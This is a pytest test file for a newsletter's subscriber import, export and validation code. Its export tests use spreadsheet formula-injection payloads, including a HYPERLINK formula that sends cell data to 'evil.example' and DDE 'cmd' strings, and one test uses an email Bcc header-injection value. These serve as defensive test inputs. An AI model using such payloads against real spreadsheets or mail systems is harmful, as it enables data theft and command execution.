"""Subscribers: validation, CSV import (bad rows by line, idempotent), add/remove/list/export."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsletter import subscriber_import, subscribers
from newsletter.errors import InputError
from newsletter.store import connect

from helpers import REAL

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def conn(config):
    return connect(config)


def run(tmp_path: Path, *args: str, input: str | None = None) -> subprocess.CompletedProcess:
    """The real command line in a subprocess, with state in tmp_path."""
    cfg = tmp_path / "config.toml"
    if not cfg.exists():
        cfg.write_text('[database]\npath = "instance/newsletter.db"\n')
    env = {**os.environ, "NEWSLETTER_CONFIG": str(cfg)}
    return subprocess.run(
        [sys.executable, "-m", "newsletter", *args],
        cwd=ROOT, env=env, capture_output=True, text=True, input=input, timeout=60,
    )


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


MESSY = (
    "\ufeffName,E-Mail Source,EMAIL\n"     # 1: header with BOM, mixed case, an extra column
    "Ann,web,ann@Example.COM\n"            # 2: good; domain lower-cased
    "Bob,web,bob-at-example.com\n"         # 3: no @
    "\n"                                   # 4: blank line, skipped silently
    '"Carl\nSmith",web,carl@example.com\n'  # 5-6: a quoted name over two lines
    "Ann again,web,ANN@example.com\n"      # 7: duplicate of line 2 (case-insensitive)
    ",web,\n"                              # 8: empty address
    "Dee,web,dee@example.org\n"            # 9: good
    "Eve,web,eve@localhost\n"              # 10: no dot in the domain
)


def test_import_reports_bad_rows_by_file_line_and_imports_the_rest(tmp_path):
    csv_file = write(tmp_path / "list.csv", MESSY)
    proc = run(tmp_path, "subscribers", "import", str(csv_file))
    assert proc.returncode == 1, proc.stderr
    errors = proc.stderr.splitlines()
    assert [e.split(": ", 1)[0] for e in errors] == [f"{csv_file}:{n}" for n in (3, 7, 8, 10)]
    assert "@-sign" in errors[0]
    assert "duplicate of line 2" in errors[1]
    assert "empty" in errors[2]
    assert proc.stdout.splitlines()[0] == "imported 3 new, 0 already present, 4 rejected"

    listed = run(tmp_path, "subscribers", "list").stdout.splitlines()
    assert listed == [
        "ann@example.com\tAnn\tactive",
        "carl@example.com\tCarl Smith\tactive",
        "dee@example.org\tDee\tactive",
    ]


def test_reimport_is_idempotent_and_unsubscribed_stays_unsubscribed(tmp_path):
    csv_file = write(tmp_path / "list.csv", "email,name\na@example.com,A\nb@example.com,B\nc@example.com,C\n")
    assert run(tmp_path, "subscribers", "import", str(csv_file)).returncode == 0
    removed = run(tmp_path, "subscribers", "remove", "B@EXAMPLE.com")
    assert removed.returncode == 0 and "unsubscribed b@example.com" in removed.stdout
    before = run(tmp_path, "subscribers", "export").stdout

    again = run(tmp_path, "subscribers", "import", str(csv_file))
    assert again.returncode == 0, again.stderr
    assert again.stdout.strip() == "imported 0 new, 3 already present, 0 rejected"
    assert run(tmp_path, "subscribers", "export").stdout == before  # nothing changed, timestamps included
    assert run(tmp_path, "subscribers", "list", "--status", "active").stdout.split() == [
        "a@example.com", "A", "active", "c@example.com", "C", "active"]
    assert run(tmp_path, "subscribers", "list", "--status", "unsubscribed").stdout.split() == [
        "b@example.com", "B", "unsubscribed"]


def test_reimport_updates_a_changed_name_only(conn, tmp_path):
    first = write(tmp_path / "a.csv", "email,name\na@example.com,Ann\nb@example.com,Bob\n")
    second = write(tmp_path / "b.csv", "email,name\nA@example.com,Ann Lee\nb@example.com,\n")
    subscriber_import.import_csv(conn, first)
    report = subscriber_import.import_csv(conn, second)
    assert (report.new, report.present, report.renamed) == (0, 2, 1)
    assert subscribers.find(conn, "a@example.com").name == "Ann Lee"
    assert subscribers.find(conn, "b@example.com").name == "Bob"  # an empty name never erases one


@pytest.mark.parametrize(
    "content, expected",
    [
        (None, "no such file"),
        ("name,address\nAnn,a@example.com\n", ":1: no 'email' column"),
        ("", "empty file"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\xff\xfe", "not UTF-8"),
        ("email\na@example.com\nb@exa\x00mple.com\n", ":3: NUL byte"),
        (b"email,name\na@example.com,Ann\nb@example.com,Bj\xf6rn\nc@example.com,Cy\n", ":3: not UTF-8"),
        (b"email,name\n" + b"a@example.com,Ann\n" * 5000 + b"b@example.com,Bj\xf6rn\n", ":5002: not UTF-8"),
        (b"email,na\xefve\n", ":1: not UTF-8"),
    ],
)
def test_unreadable_or_wrong_files_exit_2_with_one_line(tmp_path, content, expected):
    path = tmp_path / "in.csv"
    if isinstance(content, bytes):
        path.write_bytes(content)
    elif content is not None:
        path.write_text(content)
    proc = run(tmp_path, "subscribers", "import", str(path))
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr
    assert proc.stderr.startswith(f"error: {path}") and expected in proc.stderr
    assert proc.stdout == ""
    # nothing was imported
    assert run(tmp_path, "subscribers", "list").stdout == ""


def test_add_validates_and_keeps_an_unsubscribed_address_unsubscribed(tmp_path):
    bad = run(tmp_path, "subscribers", "add", "someone@")
    assert bad.returncode == 2 and bad.stderr.startswith("error: 'someone@':")
    added = run(tmp_path, "subscribers", "add", "Zoe@Example.com", "--name", "Zoe")
    assert added.stdout.strip() == "added Zoe@example.com"
    assert "already subscribed" in run(tmp_path, "subscribers", "add", "zoe@example.COM").stdout
    run(tmp_path, "subscribers", "remove", "zoe@example.com")
    again = run(tmp_path, "subscribers", "add", "zoe@example.com")
    assert again.returncode == 0 and "left unsubscribed" in again.stderr
    assert "unsubscribed" in run(tmp_path, "subscribers", "list").stdout
    back = run(tmp_path, "subscribers", "add", "zoe@example.com", "--resubscribe")
    assert back.stdout.strip() == "resubscribed Zoe@example.com"
    assert run(tmp_path, "subscribers", "list", "--status", "active").stdout.startswith("Zoe@example.com\tZoe\tactive")
    missing = run(tmp_path, "subscribers", "remove", "nobody@example.com")
    assert missing.returncode == 2 and "no such subscriber" in missing.stderr


def test_export_is_csv_with_the_contract_columns_then_the_consent_record(conn):
    subscribers.add(conn, "a@example.com", 'Ann "the, quoted" One')
    subscribers.add(conn, "b@example.com")
    subscribers.remove(conn, "b@example.com")
    out = io.StringIO()
    subscribers.export_csv(conn, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == 2
    assert list(rows[0]) == ["email", "name", "status", "subscribed_at", "unsubscribed_at",
                             "consent_source", "consent_at", "confirmed_at", "consent_ip"]
    assert rows[0]["name"] == 'Ann "the, quoted" One' and rows[0]["unsubscribed_at"] == ""
    assert rows[0]["consent_source"] == "editor" and rows[0]["consent_at"] == rows[0]["subscribed_at"]
    assert rows[1]["status"] == "unsubscribed" and rows[1]["unsubscribed_at"] >= rows[1]["subscribed_at"]


def test_names_are_one_line_and_addresses_need_no_smtputf8(conn):
    sub, _ = subscribers.add(conn, "x@example.com", "Evil\r\nBcc: victim@example.com\x00")
    assert sub.name == "Evil Bcc: victim@example.com"
    with pytest.raises(InputError):
        subscribers.add(conn, "ü@example.com")
    with pytest.raises(InputError):
        subscribers.add(conn, "x@example.com\nBcc: y@example.com")


def test_iteration_is_batched_in_id_order_without_loading_everything(conn):
    subscriber_import.import_rows(conn, [(f"u{i}@example.com", f"u{i}@example.com", "") for i in range(25)])
    subscribers.remove(conn, "u3@example.com")
    seen = [s.email for s in subscribers.iter_subscribers(conn, "active", batch=4)]
    assert seen == [f"u{i}@example.com" for i in range(25) if i != 3]
    later = subscribers.iter_subscribers(conn, "active", after_id=20, batch=4)
    assert [s.email for s in later] == [f"u{i}@example.com" for i in range(20, 25)]
    counts = [subscribers.count(conn, *status) for status in ((), ("active",), ("unsubscribed",))]
    assert counts == [25, 24, 1]


_PIECES = ["a", "Z", "0", ".", "..", "-", "_", "+", "@", " ", "é", "ü", "\n", '"', "[1.2.3.4]", "example", "com",
           "EXAMPLE", "x" * 70, "xn--exmple-cua", "localhost", "test", "local", "arpa", "LOCAL", "postmaster", "Abuse",
           "!", "%", "'"]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=8), st.lists(st.sampled_from(_PIECES), max_size=8))
def test_the_fast_path_agrees_with_email_validator(local, domain):
    """Plain addresses skip the re-validation of a domain already seen: same answer either way."""
    address = "".join(local) + "@" + "".join(domain)
    for special_use in (False, True):
        outcomes = []
        for check in (lambda a, s=special_use: subscribers.normalize_email(a, special_use=s),
                      lambda a, s=special_use: subscribers._validate(a, s)):
            try:
                outcomes.append(check(address.strip()))
            except ValueError as exc:
                outcomes.append(f"error: {exc}")
        assert outcomes[0] == outcomes[1], (address, special_use)


def test_an_international_domain_is_stored_so_that_it_can_be_mailed(config, conn, tmp_path):
    """email-validator accepts bücher.de; the address is kept in its ASCII (IDNA) form, which
    SMTP without SMTPUTF8 and the To header can carry, so the subscriber really gets the issue."""
    from newsletter import delivery

    from helpers import make_issue
    from smtpserver import Recorder, smtp_server

    path = write(tmp_path / "idn.csv",
                 "email,name\nAnna@Bücher.DE,Anna\nanna@xn--bcher-kva.de,Again\nben@example.com,Ben\n")
    rejected = []
    report = subscriber_import.import_csv(conn, path, on_reject=rejected.append)
    assert rejected == [f"{path}:3: duplicate of line 2 (anna@xn--bcher-kva.de)"]
    assert (report.new, report.rejected) == (2, 1)
    assert [s.email for s in subscribers.iter_subscribers(conn)] == ["Anna@xn--bcher-kva.de", "ben@example.com"]
    assert subscribers.find(conn, "anna@bücher.de").email == "Anna@xn--bcher-kva.de"
    with smtp_server(Recorder()) as (port, server):
        config["smtp"].update(backend="smtp", host="127.0.0.1", port=port, security="none", connections=1)
        config["newsletter"].update(REAL)
        report = delivery.send_issue(conn, config, make_issue(conn))
        assert (report.sent, report.failed) == (2, 0), report.errors
        assert sorted(server.recipients()) == ["Anna@xn--bcher-kva.de", "ben@example.com"]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0", "'=already quoted"]


def test_export_neutralises_spreadsheet_formulas_and_import_reads_them_back(conn, tmp_path):
    """OWASP's rule: a cell starting with = + - @, tab or CR gets a leading ' so a spreadsheet
    shows it as text; importing the export gives the same subscribers back."""
    for n, name in enumerate(FORMULAS):
        subscribers.add(conn, f"reader{n}@example.com", name)
    subscribers.add(conn, "=cmd|'/Ccalc'!A0@example.com", "Plain Name")
    out = io.StringIO()
    subscribers.export_csv(conn, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r", cell
    assert [r["name"] for r in rows[:len(FORMULAS)]] == ["'" + name for name in FORMULAS]
    assert rows[-1]["email"] == "'=cmd|'/Ccalc'!A0@example.com"

    exported = write(tmp_path / "export.csv", out.getvalue())
    rows = list(subscriber_import.read_rows(exported))
    assert [reason for *_, reason in rows] == [None] * len(rows)
    assert [(email, name) for _, email, _, name, _ in rows] == [
        *((f"reader{n}@example.com", name) for n, name in enumerate(FORMULAS)),
        ("=cmd|'/Ccalc'!A0@example.com", "Plain Name"),
    ]


def test_an_import_holds_a_batch_in_memory_not_the_file(conn, monkeypatch):
    """The rows go through the database a batch at a time: the memory an import needs does
    not grow with the file (20,000 rows held at once would take several MB)."""
    import tracemalloc

    monkeypatch.setattr(subscriber_import, "BATCH", 500)
    rows = ((f"reader{i}@example.com", f"reader{i}@example.com", f"Reader {i}") for i in range(20_000))
    tracemalloc.start()
    try:
        report = subscriber_import.import_rows(conn, rows)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (report.new, subscribers.count(conn)) == (20_000, 20_000)
    assert peak < 1_500_000, f"{peak:,} bytes"


def test_reading_a_file_leaves_the_list_open_to_others(config, conn):
    """While an import reads and checks its file, another program adds subscribers (the
    database's write lock is taken only to merge); an address both add counts as present."""
    other = connect(config)
    added = []

    def rows():
        for i in range(3000):
            if i == 1500:  # half the file read: someone signs up, with an address the file has later
                added.append(subscribers.add(other, "reader2000@example.com")[1])
                added.append(subscribers.add(other, "elsewhere@example.com")[1])
            yield f"reader{i}@example.com", f"reader{i}@example.com", ""

    report = subscriber_import.import_rows(conn, rows())
    assert added == ["added", "added"]
    assert (report.new, report.present) == (2999, 1)
    assert subscribers.count(conn) == 3001


def export_peak(conn, export) -> tuple[int, int]:
    """(peak traced memory, characters written) of ``export(out)``, its output kept nowhere."""
    import tracemalloc

    class Sink:
        size = 0

        def write(self, text):
            self.size += len(text)

    sink = Sink()
    tracemalloc.start()
    try:
        export(sink)
        return tracemalloc.get_traced_memory()[1], sink.size
    finally:
        tracemalloc.stop()


def test_the_export_streams_a_batch_at_a_time(conn):
    """`subscribers export` writes as it reads: five times the subscribers, not five times
    the memory (one batch of them is held at a time)."""
    def grow_to(total):
        start = subscribers.count(conn)
        subscriber_import.import_rows(conn, ((f"reader{i}@example.com", f"reader{i}@example.com", f"Reader {i}")
                                             for i in range(start, total)))

    grow_to(5_000)
    small, small_size = export_peak(conn, lambda out: subscribers.export_csv(conn, out))
    grow_to(25_000)
    big, big_size = export_peak(conn, lambda out: subscribers.export_csv(conn, out))
    assert big_size > 4.5 * small_size
    assert big < 1.5 * small, f"{small:,} bytes for 5,000 subscribers, {big:,} for 25,000"


def test_the_editor_downloads_the_list_as_csv_streamed(app, config, conn):
    """The subscribers page links to the CSV export; the response is a stream written a
    batch at a time (five times the subscribers, not five times the memory), the same CSV as
    `subscribers export`, and only for the editor."""
    from helpers import editor_client

    subscriber_import.import_rows(conn, ((f"reader{i}@example.com", f"reader{i}@example.com", f"=Reader {i}")
                                         for i in range(3_000)))
    assert app.test_client().get("/subscribers/export.csv").status_code in (302, 401, 403)
    client = editor_client(app, config)
    assert 'href="/subscribers/export.csv"' in client.get("/subscribers").get_data(as_text=True)

    response = client.get("/subscribers/export.csv")
    assert response.is_streamed and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="subscribers-')
    expected = io.StringIO()
    subscribers.export_csv(conn, expected)
    assert response.get_data(as_text=True) == expected.getvalue()
    assert "'=Reader 1" in expected.getvalue()

    def download(out):
        for chunk in client.get("/subscribers/export.csv", buffered=False).response:
            out.write(chunk)

    small, small_size = export_peak(conn, download)
    subscriber_import.import_rows(conn, ((f"reader{i}@example.com", f"reader{i}@example.com", "")
                                         for i in range(3_000, 15_000)))
    big, big_size = export_peak(conn, download)
    assert big_size > 4 * small_size
    assert big < 1.5 * small, f"{small:,} bytes for 3,000 subscribers, {big:,} for 15,000"
